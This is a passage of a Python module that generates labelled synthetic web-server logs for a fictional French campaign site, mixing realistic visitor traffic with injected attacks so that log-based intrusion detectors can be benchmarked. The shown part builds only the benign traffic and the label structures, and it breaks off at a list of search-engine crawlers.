"""Labelled synthetic web logs: a campaign site's benign traffic with attacks injected.

:func:`generate` writes nothing and returns a :class:`GeneratedLog`: the
lines (combined format, in the order a server would have written them) and one
:class:`Label` per injected attack and per "near miss" (benign traffic that
comes close to a detector's threshold). A label names the IPs, and the
detector ids (:data:`rempart.logs.registry.SPECS`) expected to flag every one
of them: the benchmark (``bench/logs_bench.py``) and the tests score the
detectors against it.

The benign traffic is shaped like a real site (``elastic-apache-2015.log`` of the
shared corpora was the guide): a daily curve, visitors with heavy-tailed
activity (most come once, a few every day), pages with their images, scripts
and fonts (fewer when the browser cache is warm: 304 answers), referers from
search engines and social networks, some 404s, search-engine crawlers, a
monitoring probe, feed readers, the campaign office behind one address.
Lines are written out of time order by up to ``jitter`` seconds, as in the
elastic sample (4,915 backward steps in 10,000 lines, never more than 59 s late).

Attacks are sized from the detectors' documented default thresholds
(:mod:`rempart.logs.settings`): per-IP buckets are overflowed with margin, and
site-relative detectors (floods, error bursts) get a multiple of the site's own
rate at the time of the attack. Each attack has its own slot in the day, far
enough from the others that no detector could merge two of them.

Everything is vectorised with polars (randomness comes from one seeded
:class:`random.Random`), so a million lines take a few seconds; the same seed
and arguments give the same bytes.

    python -m rempart.logs.generate --lines 1000000 --seed 7 --out access.log \\
        --labels labels.json
"""

from __future__ import annotations

import argparse
import array
import gzip
import io
import ipaddress
import json
import logging
import math
import random
import string
import sys
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import BinaryIO
from zoneinfo import ZoneInfo

import polars as pl

from rempart.logs.model import Incident
from rempart.model.findings import Severity

logger = logging.getLogger(__name__)

_US = 1_000_000
_MIN = 60 * _US
SITE = "https://www.exemple-campagne.fr"
"""The fictional site's own URL (in referers)."""

MIN_BENIGN_SHARE = 0.5
"""At least this share of the lines must be benign (else the attacks are the baseline)."""

COLUMNS: dict[str, pl.DataType] = {
    "ip": pl.String(),
    "ts": pl.Int64(),
    "user": pl.String(),
    "method": pl.String(),
    "path": pl.String(),
    "query": pl.String(),
    "proto": pl.String(),
    "status": pl.Int32(),
    "bytes": pl.Int64(),
    "referer": pl.String(),
    "ua": pl.String(),
}
"""The rows before rendering: ``ts`` in microseconds since 1970 (UTC), ``query``
without ``?``, ``user`` ``-`` when none, ``referer`` ``""`` when none."""


# --------------------------------------------------------------------------- results


@dataclass(frozen=True)
class Label:
    """One injected attack, or one near miss, and what should flag it."""

    name: str
    """Short name, unique in a log (``wordpress_bruteforce``)."""
    kind: str
    """``flood``, ``bruteforce``, ``scan``, ``probe``, ``dos``, ``errors``; ``noise`` for
    sub-threshold probing; ``benign`` for near misses."""
    ips: tuple[str, ...]
    """Every address taking part, sorted."""
    expected: tuple[str, ...]
    """Detector ids expected to flag each of these IPs (empty: none should)."""
    start: datetime
    """First request, UTC."""
    end: datetime
    """Last request, UTC."""
    lines: int
    """Lines it added to the log."""
    note: str = ""
    """What it does, in plain words."""

    @property
    def is_attack(self) -> bool:
        """Injected attack (not a near miss nor background noise)."""
        return self.kind not in ("benign", "noise")

    def as_dict(self) -> dict[str, object]:
        return {
            "name": self.name,
            "kind": self.kind,
            "ips": list(self.ips),
            "expected": list(self.expected),
            "start": self.start.isoformat(),
            "end": self.end.isoformat(),
            "lines": self.lines,
            "note": self.note,
        }


@dataclass(frozen=True, eq=False)
class GeneratedLog:
    """Lines in written order, and the labels."""

    lines: pl.Series
    """Combined-format lines (String, no newline)."""
    labels: tuple[Label, ...]
    start: datetime
    """Earliest request, UTC."""
    end: datetime
    """Latest request, UTC."""
    seed: int

    def chunks(self, lines_per_chunk: int = 200_000) -> Iterator[bytes]:
        """The log as newline-terminated UTF-8 blocks (never all lines as Python objects)."""
        for offset in range(0, len(self.lines), max(lines_per_chunk, 1)):
            buffer = io.BytesIO()
            part = self.lines.slice(offset, lines_per_chunk)
            pl.DataFrame({"l": part}).write_csv(buffer, include_header=False, quote_style="never")
            yield buffer.getvalue()

    def write(self, path: str | Path) -> int:
        """Write the log (gzip when the name ends in ``.gz``); returns bytes written."""
        target = Path(path)
        size = 0
        with _open_for_writing(target) as out:
            for block in self.chunks():
                out.write(block)
                size += len(block)
        return size

    def by_ip(self) -> dict[str, Label]:
        """Each labelled IP's label."""
        return {ip: label for label in self.labels for ip in label.ips}

    def labels_dict(self) -> dict[str, object]:
        """The labels as JSON-ready data."""
        return {
            "seed": self.seed,
            "lines": len(self.lines),
            "start": self.start.isoformat(),
            "end": self.end.isoformat(),
            "labels": [label.as_dict() for label in self.labels],
        }


def _open_for_writing(path: Path) -> BinaryIO | gzip.GzipFile:
    if path.suffix == ".gz":
        return gzip.GzipFile(path, "wb", compresslevel=6, mtime=0)  # same bytes each run
    return path.open("wb")


# --------------------------------------------------------------------------- randomness


class Rand:
    """Seeded randomness: Python's Mersenne Twister, drawn in bulk into polars Series."""

    def __init__(self, seed: int) -> None:
        self.py = random.Random(seed)

    def uniform(self, n: int) -> pl.Series:
        """``n`` floats in [0, 1)."""
        words = array.array("Q")
        words.frombytes(self.py.randbytes(8 * n))
        bits = pl.Series("u", words, dtype=pl.UInt64)
        return ((bits // 2048).cast(pl.Float64) * 2.0**-53).rename("u")

    def ints(self, n: int, high: int) -> pl.Series:
        """``n`` integers in [0, high)."""
        return (self.uniform(n) * high).floor().cast(pl.Int64).clip(0, max(high - 1, 0))

    def token(self, length: int, alphabet: str = string.ascii_letters + string.digits) -> str:
        return "".join(self.py.choices(alphabet, k=length))


# --------------------------------------------------------------------------- the site

BROWSERS: tuple[tuple[int, str], ...] = (
    (14, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/131.0.0.0 Safari/537.36"),
    (5, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/130.0.0.0 Safari/537.36"),
    (6, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/131.0.0.0 Safari/537.36"),
    (16, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
         "like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"),
    (8, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"),
    (17, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/131.0.0.0 Mobile Safari/537.36"),
    (5, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/129.0.0.0 Mobile Safari/537.36"),
    (4, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like "
        "Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"),
    (6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (1, "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (1, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"),
    (6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"),
    (4, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/18.1 Safari/605.1.15"),
    (3, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/22B83 [FBAN/FBIOS;FBAV/489.0.0.36.106;FBBV/655218843;FBDV/iPhone14,5;"
        "FBMD/iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBID/phone;FBLC/fr_FR;FBOP/5]"),
    (2, "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.6 Mobile/15E148 Safari/604.1"),
    (1, "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.6778.81 Mobile Safari/537.36 OPR/86.0.4363.59"),
    (1, "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36"),
)  # fmt: skip
"""Browsers of the visitors, with weights (mobile-heavy, as campaign sites are)."""

REFERERS: tuple[tuple[int, str], ...] = (
    (36, ""),
    (24, "https://www.google.com/"),
    (3, "https://www.google.fr/"),
    (10, "https://www.facebook.com/"),
    (4, "https://m.facebook.com/"),
    (5, "https://t.co/"),
    (4, "https://l.instagram.com/"),
    (3, "https://www.bing.com/"),
    (2, "https://duckduckgo.com/"),
    (2, "https://www.qwant.com/"),
    (2, "https://www.linkedin.com/"),
    (2, "android-app://com.google.android.gm/"),
    (1, "https://www.ecosia.org/"),
    (1, "https://news.google.com/"),
    (1, "https://www.reddit.com/"),
)
"""Where first pages of visits come from ("" = typed or bookmarked)."""

THEMES = (
    "ecologie", "sante", "education", "logement", "emploi", "transports", "securite",
    "culture", "agriculture", "numerique", "jeunesse", "retraites", "democratie", "europe",
    "services-publics", "egalite", "sport", "quartiers", "ruralite", "handicap",
)  # fmt: skip
WORDS = (
    "reunion", "publique", "meeting", "mairie", "ecole", "budget", "velo", "tramway",
    "parc", "marche", "quartier", "logement", "association", "debat", "programme",
    "candidate", "liste", "conseil", "municipal", "projet", "climat", "piscine",
    "bibliotheque", "centre", "ville", "jeunes", "seniors", "sante", "commerce", "emploi",
)  # fmt: skip
PEOPLE = (
    "camille-martin", "louis-bernard", "sarah-petit", "hugo-dubois", "ines-moreau",
    "lucas-laurent", "lea-simon", "nathan-michel", "chloe-lefebvre", "mehdi-garcia",
    "emma-roux", "yanis-david", "manon-bertrand", "adam-morel", "jade-fournier",
    "theo-girard", "lina-bonnet", "rayan-dupont", "zoe-lambert", "noah-fontaine",
    "alice-rousseau", "sacha-vincent", "anna-muller", "enzo-leroy", "lou-faure",
)  # fmt: skip

CORE_ASSETS = (
    "/wp-content/themes/campagne/style.css",
    "/wp-content/themes/campagne/assets/css/main.min.css",
    "/wp-includes/css/dist/block-library/style.min.css",
    "/wp-includes/js/jquery/jquery.min.js",
    "/wp-includes/js/jquery/jquery-migrate.min.js",
    "/wp-content/themes/campagne/assets/js/app.min.js",
    "/wp-content/themes/campagne/assets/fonts/marianne-regular.woff2",
    "/wp-content/themes/campagne/assets/fonts/marianne-bold.woff2",
    "/wp-content/themes/campagne/assets/img/logo.svg",
    "/wp-content/themes/campagne/assets/img/icons.svg",
    "/wp-content/plugins/contact-form-7/includes/css/styles.css",
    "/wp-content/plugins/contact-form-7/includes/js/index.js",
    "/favicon.ico",
)
"""What every page loads (cached by returning browsers)."""

STATIC_MISSING = ("/apple-touch-icon.png", "/apple-touch-icon-precomposed.png")
"""Static files browsers ask for that the site lacks (404, as on most sites)."""

DEAD_LINKS = (
    "/2022/03/ancien-article", "/blog/", "/evenements/", "/equipe-2020/", "/tract.pdf",
    "/programme-2020/", "/actualites/page/14/", "/presse/communique-12-01",
    "/index.html", "/accueil", "/nous-contacter", "/don/merci/",
)  # fmt: skip
"""Old links that still bring visitors (answered 404)."""


@dataclass(frozen=True)
class Site:
    """The fictional campaign site: pages by popularity, assets, and their sizes."""

    pages: tuple[str, ...]
    """Page paths, most popular first."""
    queries: tuple[str, ...]
    """Query string of each page ("" when none)."""
    images: tuple[str, ...]
    """Article images, most viewed first."""


def build_site(rand: Rand) -> Site:
    """Pages: home, programme by theme, about 300 articles, candidates, agenda, forms."""
    head = [
        ("/", ""), ("/programme/", ""), ("/actualites/", ""), ("/agenda/", ""),
        ("/equipe/", ""), ("/don/", ""), ("/adherer/", ""), ("/contact/", ""),
        ("/connexion/", ""), ("/presse/", ""), ("/mentions-legales/", ""),
        ("/feed/", ""), ("/espace-membre/", ""),
    ]  # fmt: skip
    articles = [
        f"/actualites/{rand.py.choice(WORDS)}-{rand.py.choice(WORDS)}-{n}/" for n in range(300)
    ]
    rand.py.shuffle(articles)
    themes = [f"/programme/{t}/" for t in THEMES]
    people = [f"/equipe/{p}/" for p in PEOPLE]
    events = [f"/agenda/{rand.py.choice(WORDS)}-{n}/" for n in range(60)]
    searches = [("/", f"s={rand.py.choice(WORDS)}+{rand.py.choice(WORDS)}") for _ in range(80)]
    rest = [(p, "") for p in (*articles[:40], *themes, *people, *articles[40:], *events)]
    mixed = head + rest[:60] + searches[:10] + rest[60:] + searches[10:]
    sizes, kinds = ("768x512", "1024x683", "300x200"), ("jpg", "webp")
    images = [
        f"/wp-content/uploads/2027/{rand.py.randint(1, 12):02d}/{rand.py.choice(WORDS)}-{n}-"
        f"{rand.py.choice(sizes)}.{rand.py.choice(kinds)}"
        for n in range(400)
    ]
    return Site(tuple(p for p, _ in mixed), tuple(q for _, q in mixed), tuple(images))


def _zipf_cum(n: int, exponent: float, offset: float = 2.0) -> pl.Series:
    weights = [1.0 / (k + offset) ** exponent for k in range(n)]
    total = sum(weights)
    cum, acc = [], 0.0
    for w in weights:
        acc += w / total
        cum.append(acc)
    return pl.Series(cum, dtype=pl.Float64)


def _weighted_cum(weights: Sequence[float]) -> pl.Series:
    total = float(sum(weights))
    cum, acc = [], 0.0
    for w in weights:
        acc += w / total
        cum.append(acc)
    return pl.Series(cum, dtype=pl.Float64)


def _pick(cum: pl.Series, u: pl.Series) -> pl.Series:
    """Indices drawn with the cumulative weights ``cum`` from uniforms ``u``."""
    return cum.search_sorted(u, side="right").cast(pl.Int64).clip(0, len(cum) - 1)


# --------------------------------------------------------------------------- addresses

BENIGN_V4 = (
    2, 5, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92, 93,
    94, 109, 176, 178, 188, 193, 194, 195, 212, 213, 217,
)  # fmt: skip
"""First bytes of the visitors' IPv4 addresses (European access networks)."""
ATTACK_V4 = (
    45, 103, 104, 138, 139, 141, 143, 146, 147, 152, 159, 161, 162, 164, 165, 167, 170, 175,
    179, 180, 181, 182, 183, 186, 187, 189, 190, 191, 196, 197, 200, 201, 202, 210, 211, 218,
    219, 220, 221, 222, 223,
)  # fmt: skip
"""First bytes of the attackers' addresses: never a visitor's, so a network named whole
by a detector holds attackers only and every benign flag is the detector's doing."""


class Addresses:
    """Unique addresses. Visitors' and attackers' never share a /24, nor do two attackers
    (or attacks), so a network a detector names whole holds one attack's addresses only."""

    def __init__(self, rand: Rand) -> None:
        self.rand = rand
        self.used: set[str] = set()
        self.attack_nets: set[str] = set()

    def _fresh(self, make: Callable[[], str]) -> str:
        for _ in range(1000):
            ip = make()
            if ip not in self.used:
                self.used.add(ip)
                return ip
        raise RuntimeError("address space exhausted")  # cannot happen at these sizes

    def v4(self) -> str:
        """A visitor's IPv4 address."""
        r = self.rand.py
        return self._fresh(
            lambda: (
                f"{r.choice(BENIGN_V4)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
            )
        )

    def v6(self) -> str:
        """A visitor's IPv6 address (in a French access provider's range)."""
        r = self.rand.py
        prefix = r.choice(("2a01:cb1d", "2a01:e0a", "2001:861", "2a02:8428", "2a04:cec0"))
        groups = ":".join(f"{r.randrange(1 << 16):x}" for _ in range(6))
        return self._fresh(lambda: f"{prefix}:{groups}")

    def _attack_net(self) -> str:
        r = self.rand.py
        while True:
            net = f"{r.choice(ATTACK_V4)}.{r.randint(0, 255)}.{r.randint(0, 255)}"
            if net not in self.attack_nets:
                self.attack_nets.add(net)
                return net

    def attacker(self) -> str:
        """An attacker's address, alone in its /24."""
        return self.network(1)[0]

    def network(self, size: int) -> list[str]:
        """``size`` attacker addresses in one /24 of their own."""
        net = self._attack_net()  # a /24 no one has: its addresses are all free
        ips = [f"{net}.{host}" for host in self.rand.py.sample(range(2, 254), size)]
        self.used.update(ips)
        return ips

    def fixed(self, ip: str) -> str:
        """A well-known address (a search engine's crawler), recorded as used."""
        self.used.add(ip)
        return ip


# --------------------------------------------------------------------------- time


HOURLY = (
    0.35, 0.24, 0.17, 0.13, 0.12, 0.16, 0.30, 0.55, 0.80, 0.92, 0.98, 1.02,
    1.10, 1.05, 0.95, 0.92, 0.95, 1.02, 1.12, 1.30, 1.42, 1.35, 1.05, 0.62,
)  # fmt: skip
"""Relative traffic per local hour (evening peak, night trough)."""


@dataclass(frozen=True)
class Clock:
    """The log's span and its daily curve."""

    start_us: int
    span_us: int
    offset_s: int
    """The site's UTC offset at the start (for the daily curve)."""

    def weight(self, t_us: int) -> float:
        """Traffic relative to the day's mean at ``t_us``, interpolated by the minute."""
        local = (t_us // _US + self.offset_s) % 86400 / 3600.0
        hour = int(local)
        frac = local - hour
        mean = sum(HOURLY) / 24
        return (HOURLY[hour] * (1 - frac) + HOURLY[(hour + 1) % 24] * frac) / mean

    def minute_cum(self) -> pl.Series:
        """Cumulative traffic share per minute of the span."""
        minutes = max(1, math.ceil(self.span_us / _MIN))
        return _weighted_cum([self.weight(self.start_us + m * _MIN) for m in range(minutes)])

    def draw(self, rand: Rand, n: int) -> pl.Series:
        """``n`` request times following the daily curve."""
        minute = _pick(self.minute_cum(), rand.uniform(n))
        within = (rand.uniform(n) * _MIN).cast(pl.Int64)
        ts = self.start_us + minute * _MIN + within
        return ts.clip(self.start_us, self.start_us + self.span_us - 1).rename("ts")


def to_utc(t_us: int) -> datetime:
    """The time of ``t_us`` to the second, as the log writes it."""
    return datetime(1970, 1, 1, tzinfo=UTC) + timedelta(seconds=t_us // _US)


def _epoch_us(when: datetime) -> int:
    when = when if when.tzinfo else when.replace(tzinfo=UTC)
    return (when - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)


# --------------------------------------------------------------------------- rows


@dataclass(frozen=True)
class World:
    """What every part of the generator shares."""

    rand: Rand
    clock: Clock
    site: Site
    addresses: Addresses
    rate: float
    """Requests per minute of the whole log, mean over the span (an upper bound of the
    benign rate: attacks are sized from it, so they err on the large side)."""

    def local_rate(self, t_us: int) -> float:
        """Requests per minute around ``t_us`` (the daily curve applied)."""
        return self.rate * self.clock.weight(t_us)

    @property
    def end_us(self) -> int:
        return self.clock.start_us + self.clock.span_us


_DEFAULTS: dict[str, object] = {
    "user": "-", "method": "GET", "query": "", "proto": "HTTP/1.1", "status": 200,
    "bytes": 0, "referer": "",
}  # fmt: skip


def _frame(columns: dict[str, pl.Series | object], height: int) -> pl.DataFrame:
    """A rows frame from Series and constants, missing columns at their defaults."""
    out: dict[str, pl.Series] = {}
    for name, dtype in COLUMNS.items():
        value = columns.get(name, _DEFAULTS.get(name))
        if isinstance(value, pl.Series):
            out[name] = value.rename(name).cast(dtype)
        else:
            out[name] = pl.Series(name, [value] * height, dtype=dtype)
    return pl.DataFrame(out)


def _rows(records: Sequence[dict[str, object]]) -> pl.DataFrame:
    """A rows frame from Python records (attacks: thousands of rows, not millions)."""
    data = {name: [r.get(name, _DEFAULTS.get(name)) for r in records] for name in COLUMNS}
    return pl.DataFrame(data, schema=COLUMNS)


def _req(ip: str, ts: int, path: str, ua: str, **fields: object) -> dict[str, object]:
    """One request as a record for :func:`_rows` (other columns at their defaults)."""
    return {"ip": ip, "ts": ts, "path": path, "ua": ua, **fields}


def _gather(values: Sequence[str], index: pl.Series) -> pl.Series:
    return pl.Series(list(values), dtype=pl.String).gather(index)


def _times(start_us: int, count: int, per_second: float, rand: Rand) -> list[int]:
    """``count`` request times from ``start_us`` at about ``per_second``, irregularly spaced."""
    step = _US / per_second
    return [start_us + int((i + rand.py.random()) * step) for i in range(count)]


# --------------------------------------------------------------------------- visitors


def benign_visits(world: World, target: int) -> pl.DataFrame:
    """At least ``target`` requests of human visitors over the whole span."""
    frames: list[pl.DataFrame] = []
    made = 0
    while made < target:
        sessions = int((target - made) / 14.0 * 1.1) + 8
        part = visits(world, sessions, world.clock.draw)
        frames.append(part)
        made += part.height
    return pl.concat(frames)


def visits(
    world: World,
    sessions: int,
    draw: Callable[[Rand, int], pl.Series],
    *,
    entry: tuple[str, str] | None = None,
    visitors: pl.DataFrame | None = None,
) -> pl.DataFrame:
    """Visits: each a few pages (think time between them), each page with its assets.

    ``draw(rand, n)`` gives the visits' start times; ``entry`` forces the first page
    (path, query); ``visitors`` (``ip``, ``ua``, ``u``) replaces fresh visitors."""
    rand = world.rand
    people = visitors if visitors is not None else new_visitors(world, max(1, sessions * 10 // 28))
    # heavy tail: most visitors come once, a few many times a day (P(n >= k) = k^-1.4)
    returns = ((people["u"] + 1e-12) ** (-1 / 1.4)).floor().clip(1, 300).cast(pl.Int64)
    sess = (
        people.select("ip", "ua")
        .with_columns(returns.alias("_n"))
        .with_columns(pl.int_ranges(0, pl.col("_n")).alias("visit"))
        .explode("visit")
        .drop("_n")
    )
    n = sess.height
    refs = _gather(
        [r for _, r in REFERERS], _pick(_weighted_cum([w for w, _ in REFERERS]), rand.uniform(n))
    )
    # 45 % of visits see one page; the others two or more (geometric tail)
    more = (2 + (-(rand.uniform(n) + 1e-12).log() * 2.5).floor()).clip(2, 40).cast(pl.Int64)
    length = pl.select(pl.when(rand.uniform(n) < 0.45).then(1).otherwise(more)).to_series()
    sess = sess.with_columns(
        draw(rand, n).alias("t0"),
        length.alias("pages"),
        rand.uniform(n).alias("_c"),
        refs.alias("ext"),
        pl.int_range(pl.len(), dtype=pl.Int64).alias("sid"),
    ).with_columns(
        pl.when(pl.col("visit") == 0)
        .then(pl.col("_c") < 0.85)
        .otherwise(pl.col("_c") < 0.15)
        .alias("cold")
    )
    pages = _pageviews(world, sess, entry)
    return pl.concat([pages.select(list(COLUMNS)), _assets(world, pages), _forms(world, pages)])


def new_visitors(world: World, count: int) -> pl.DataFrame:
    """Fresh visitors: an address (15 % IPv6), a browser, a uniform for their activity."""
    rand, addr = world.rand, world.addresses
    ips = [addr.v6() if rand.py.random() < 0.15 else addr.v4() for _ in range(count)]
    browser = _pick(_weighted_cum([w for w, _ in BROWSERS]), rand.uniform(count))
    return pl.DataFrame(
        {"ip": ips, "ua": _gather([b for _, b in BROWSERS], browser), "u": rand.uniform(count)}
    )


def _pageviews(world: World, sess: pl.DataFrame, entry: tuple[str, str] | None) -> pl.DataFrame:
    rand, site = world.rand, world.site
    pv = (
        sess.with_columns(pl.int_ranges(0, pl.col("pages")).alias("k"))
        .explode("k")
        .drop("pages", "_c")
    )
    n = pv.height
    page = _pick(_zipf_cum(len(site.pages), 1.05), rand.uniform(n))
    think = (-(rand.uniform(n) + 1e-12).log() * 40 * _US).clip(2 * _US, 900 * _US)
    pv = pv.with_columns(
        think.cast(pl.Int64).alias("_think"),
        _gather(site.pages, page).alias("path"),
        _gather(site.queries, page).alias("query"),
        _gather(DEAD_LINKS, rand.ints(n, len(DEAD_LINKS))).alias("_dead_path"),
        (rand.uniform(n) < 0.008).alias("_dead"),
        rand.uniform(n).alias("_v"),
    )
    if entry is not None:
        first = pl.col("k") == 0
        pv = pv.with_columns(
            pl.when(first).then(pl.lit(entry[0])).otherwise(pl.col("path")).alias("path"),
            pl.when(first).then(pl.lit(entry[1])).otherwise(pl.col("query")).alias("query"),
            pl.when(first).then(pl.lit(False)).otherwise(pl.col("_dead")).alias("_dead"),
        )
    dead, v = pl.col("_dead"), pl.col("_v")
    status = (
        pl.when(dead).then(404)
        .when(v > 0.9997).then(502)
        .when(~pl.col("cold") & (v < 0.08)).then(304)
        .otherwise(200)
    )  # fmt: skip
    size = (
        pl.when(status == 200)
        .then((18_000 + v * 70_000).cast(pl.Int64))
        .when(status == 304)
        .then(0)
        .otherwise(4_800)
    )
    pv = pv.with_columns(
        pl.when(dead).then(pl.col("_dead_path")).otherwise(pl.col("path")).alias("path"),
        pl.when(dead).then(pl.lit("")).otherwise(pl.col("query")).alias("query"),
        (
            pl.col("t0")
            + pl.when(pl.col("k") == 0).then(0).otherwise(pl.col("_think")).cum_sum().over("sid")
        ).alias("ts"),
    )
    here = pl.lit(SITE) + pl.col("path") + _query_suffix()
    return pv.with_columns(
        pl.when(pl.col("k") == 0)
        .then(pl.col("ext"))
        .otherwise(here.shift(1).over("sid"))
        .alias("referer"),
        status.cast(pl.Int32).alias("status"),
        size.cast(pl.Int64).alias("bytes"),
        pl.when(v < 0.62).then(pl.lit("HTTP/2.0")).otherwise(pl.lit("HTTP/1.1")).alias("proto"),
        pl.lit("GET").alias("method"),
        pl.lit("-").alias("user"),
    ).filter(pl.col("ts") < world.end_us)


def _query_suffix() -> pl.Expr:
    return pl.when(pl.col("query") != "").then(pl.lit("?") + pl.col("query")).otherwise(pl.lit(""))


def _assets(world: World, pv: pl.DataFrame) -> pl.DataFrame:
    """Styles, scripts, fonts and images of each page view (fewer when cached)."""
    rand, site = world.rand, world.site
    base = pv.filter(pl.col("status") == 200).select(
        "ip", "ua", "ts", "path", "query", "proto", "cold", "k"
    )
    base = base.with_columns(rand.uniform(base.height).alias("_m"))
    cold_first = (pl.col("k") == 0) & pl.col("cold")
    count = (
        pl.when(cold_first).then(len(CORE_ASSETS) + (pl.col("_m") * 8).floor())
        .when(pl.col("k") == 0).then((pl.col("_m") * 4).floor())
        .otherwise((pl.col("_m") * 5).floor())
    ).cast(pl.Int64)  # fmt: skip
    rows = (
        base.with_columns(count.alias("_count"))
        .filter(pl.col("_count") > 0)
        .with_columns(pl.int_ranges(0, pl.col("_count")).alias("j"))
        .explode("j")
    )
    m = rows.height
    core_index = rows["j"].clip(0, len(CORE_ASSETS) - 1)
    rows = rows.with_columns(
        _gather(CORE_ASSETS, core_index).alias("_core"),
        _gather(site.images, _pick(_zipf_cum(len(site.images), 0.9), rand.uniform(m))).alias(
            "_img"
        ),
        _gather(STATIC_MISSING, rand.ints(m, len(STATIC_MISSING))).alias("_miss"),
        rand.uniform(m).alias("_v"),
        rand.uniform(m).alias("_w"),
    )
    v = pl.col("_v")
    is_core = (pl.col("k") == 0) & pl.col("cold") & (pl.col("j") < len(CORE_ASSETS))
    missing = ~is_core & (v < 0.01)
    path = pl.when(is_core).then("_core").when(missing).then("_miss").otherwise("_img")
    status = pl.when(missing).then(404).when(~pl.col("cold") & (v < 0.5)).then(304).otherwise(200)
    size = pl.when(status == 200).then((900 + pl.col("_w") * 180_000).cast(pl.Int64))
    delay = pl.col("j") * 80_000 + (pl.col("_w") * 1_500_000).cast(pl.Int64)
    return (
        rows.with_columns(
            (pl.lit(SITE) + pl.col("path") + _query_suffix()).alias("referer"),
            path.alias("path"),
            pl.when(is_core & pl.col("_core").str.contains(r"\.(css|js)$"))
            .then(pl.lit("ver=6.7.1"))
            .otherwise(pl.lit(""))
            .alias("query"),
            status.cast(pl.Int32).alias("status"),
            size.fill_null(pl.when(status == 404).then(1_024).otherwise(0)).alias("bytes"),
            (pl.col("ts") + 150_000 + delay).alias("ts"),
            pl.lit("GET").alias("method"),
            pl.lit("-").alias("user"),
        )
        .filter(pl.col("ts") < world.end_us)
        .select(list(COLUMNS))
    )


FORMS: dict[str, tuple[float, float, int]] = {
    "/contact/": (0.15, 0.0, 302),
    "/don/": (0.25, 0.0, 302),
    "/adherer/": (0.20, 0.0, 302),
    "/connexion/": (0.60, 0.05, 303),
}
"""Form page → (share of its views that submit it, share of submissions that fail and
re-show the form with 200, status of a success)."""


def _forms(world: World, pv: pl.DataFrame) -> pl.DataFrame:
    """Form submissions (POST) following some views of the form pages; a failed one (a
    mistyped password) is sent again, right, half a minute later."""
    rand = world.rand
    shown = pv.filter(pl.col("path").is_in(list(FORMS)) & (pl.col("status") == 200))
    shown = shown.with_columns(
        rand.uniform(shown.height).alias("_s"),
        rand.uniform(shown.height).alias("_f"),
        rand.uniform(shown.height).alias("_t"),
    )
    share = pl.col("path").replace_strict({p: f[0] for p, f in FORMS.items()}, default=0.0)
    fail = pl.col("path").replace_strict({p: f[1] for p, f in FORMS.items()}, default=0.0)
    ok = pl.col("path").replace_strict({p: f[2] for p, f in FORMS.items()}, default=302)
    sent = shown.filter(pl.col("_s") < share).with_columns(
        (pl.col("ts") + 15 * _US + (pl.col("_t") * 100 * _US).cast(pl.Int64)).alias("ts"),
        pl.lit("POST").alias("method"),
        (pl.lit(SITE) + pl.col("path")).alias("referer"),
        pl.lit("").alias("query"),
        (pl.col("_f") < fail).alias("_failed"),
        ok.cast(pl.Int32).alias("_ok"),
    )
    first = sent.with_columns(
        pl.when("_failed").then(200).otherwise(pl.col("_ok")).cast(pl.Int32).alias("status"),
        pl.when("_failed").then(21_500).otherwise(0).cast(pl.Int64).alias("bytes"),
    )
    again = sent.filter("_failed").with_columns(
        (pl.col("ts") + 20 * _US + (pl.col("_t") * 20 * _US).cast(pl.Int64)).alias("ts"),
        pl.col("_ok").alias("status"),
        pl.lit(0, pl.Int64).alias("bytes"),
    )
    return pl.concat([first.select(list(COLUMNS)), again.select(list(COLUMNS))]).filter(
        pl.col("ts") < world.end_us
    )


# --------------------------------------------------------------------------- near misses

GOOGLEBOT = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, "
    "like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)"
)
CRAWLERS: tuple[tuple[float, tuple[str, ...], str], ...] = (
    (0.45, ("66.249.66.1", "66.249.66.33", "66.249.68.12"), GOOGLEBOT),
